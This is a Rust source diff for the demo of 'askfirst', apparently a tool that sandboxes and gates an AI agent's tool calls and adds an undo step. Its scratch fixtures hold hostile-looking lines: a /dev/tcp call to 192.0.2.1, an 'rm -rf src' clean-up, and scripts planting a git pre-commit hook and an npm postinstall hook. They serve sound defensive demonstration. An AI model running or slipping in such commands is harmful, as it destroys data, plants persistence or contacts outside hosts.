@@ -5,17 +5,19 @@ use std::path::{Path, PathBuf};
 use anyhow::Context;
 use askfirst::ports::Clock;
 use askfirst::{ApprovalContext, Outcome};
-use askfirst_config::Places;
+use askfirst_config::{Config, Places};
 use askfirst_display::Choice;
 use askfirst_runtime::Session;
 use askfirst_runtime::clock::SystemClock;
 use askfirst_runtime::ledger::SessionId;
+use askfirst_runtime::rehearsal::UndoStore;
 use serde_json::{Value, json};
 
 use crate::args::{Common, ModeFlags};
+use crate::commands::undo::undo_logged;
 use crate::exit::Exit;
 use crate::print::{err, out, print_wrapped};
-use crate::session::{FrontEnd, open, read_config_in};
+use crate::session::{FrontEnd, log_action, open, read_config_in};
 
 const CONFIG: &str = include_str!("demo/askfirst.yaml");
 
@@ -23,10 +25,11 @@ const CONFIG: &str = include_str!("demo/askfirst.yaml");
 struct DemoStep {
     says: &'static str,
     calls: Vec<(&'static str, Value)>,
+    is_undone: bool,
 }
 
 fn script() -> Vec<DemoStep> {
-    let one = |says, tool, args| DemoStep { says, calls: vec![(tool, args)] };
+    let one = |says, tool, args| DemoStep { says, calls: vec![(tool, args)], is_undone: false };
     let shell = |says, command: &str| one(says, "shell", json!({"command": command, "cwd": "notes"}));
     let script = |says, command: &str| one(says, "shell", json!({"command": command, "cwd": "app"}));
     vec![
@@ -50,6 +53,7 @@ fn script() -> Vec<DemoStep> {
                 ("copy_file", json!({"path": "notes:plan.md", "to": "notes:plan-1.md"})),
                 ("copy_file", json!({"path": "notes:plan.md", "to": "notes:plan-2.md"})),
             ],
+            is_undone: false,
         },
         shell(
             "A riskier command: you see every program. Press `r` to refuse with a reason.",
@@ -67,6 +71,17 @@ fn script() -> Vec<DemoStep> {
             "This script plants a git hook. No one is asked: askfirst discards what it did.",
             "sh hook.sh",
         ),
+        script(
+            "This script phones home. It ran without a network. You see that it tried to reach one.",
+            "sh phone.sh",
+        ),
+        DemoStep {
+            is_undone: true,
+            ..script(
+                "A script that removes the sources. Its changes are kept, and then undone.",
+                "sh clean.sh",
+            )
+        },
         shell("The config denies this command, even inside another one.", "env -S 'sudo ls'"),
         one("A file outside every folder that I may use.", "read_file", json!({"path": "secret.txt"})),
         shell("If you approve this, the sandbox stops it: it creates a namespace.", "unshare --user true"),
@@ -83,7 +98,7 @@ pub fn demo(common: &Common, mode: ModeFlags) -> anyhow::Result<Exit> {
     let scratch = Scratch::new().context("cannot create a scratch folder")?;
     let state = scratch.0.join("state");
     let places = Places { state: state.clone(), ..Places::from_env() };
-    let config = read_config_in(Some(scratch.0.join("askfirst.yaml")), scratch.0.clone(), places)?;
+    let config = read_config_in(Some(scratch.0.join("askfirst.yaml")), scratch.0.clone(), places.clone())?;
     let about = "A scripted agent works on notes in a scratch folder. Every call goes through askfirst, and programs \
         run in an OS sandbox if this machine has one.";
     print_wrapped("", about);
@@ -99,6 +114,9 @@ pub fn demo(common: &Common, mode: ModeFlags) -> anyhow::Result<Exit> {
             break;
         }
         exit = exit.max(play(&session, &step));
+        if step.is_undone {
+            undo_last(&session.config, &places, &scratch.0);
+        }
     }
     out("");
     out("Decisions and results, from the audit log:");
@@ -128,6 +146,20 @@ fn play(session: &Session, step: &DemoStep) -> Exit {
         exit = exit.max(print_outcome(tool, outcome));
     }
     exit
+}
+
+/// Undoes the last change in the folder of the demo, as `askfirst undo` does.
+fn undo_last(config: &Config, places: &Places, folder: &Path) {
+    let undo = || {
+        let store = UndoStore::open(&places.state, folder)?;
+        let id = store.last()?.id;
+        undo_logged(&store, &id, |entry| log_action(config, places, "demo", entry))?;
+        anyhow::Ok(id)
+    };
+    match undo() {
+        Ok(id) => print_wrapped("  undone   ", &format!("`askfirst undo {id}` restored what it removed")),
+        Err(why) => print_wrapped("  kept     ", &format!("nothing was undone: {why}")),
+    }
 }
 
 /// Prints one line about an outcome, and the agent's reply to a refusal. A refusal does not make the demo fail.
@@ -181,6 +213,10 @@ impl Scratch {
         write("app/package.json", "{\n  \"name\": \"greeter\",\n  \"scripts\": {}\n}\n")?;
         write("app/greet.sh", "sed -i s/Hello/Welcome/ greeting.txt && cat greeting.txt\n")?;
         write("app/build.sh", "sed -i 's/{}/{ \"postinstall\": \"sh hello.sh\" }/' package.json\n")?;
+        std::fs::create_dir(scratch.0.join("app/src"))?;
+        write("app/src/main.c", "int main(void) { return 0; }\n")?;
+        write("app/clean.sh", "rm -rf src\n")?;
+        write("app/phone.sh", "bash -c 'echo hello > /dev/tcp/192.0.2.1/80'\n")?;
         write("app/hook.sh", "echo 'sh hello.sh' > .git/hooks/pre-commit\n")?;
         write("secret.txt", "no one should read this\n")?;
         write("askfirst.yaml", CONFIG)?;
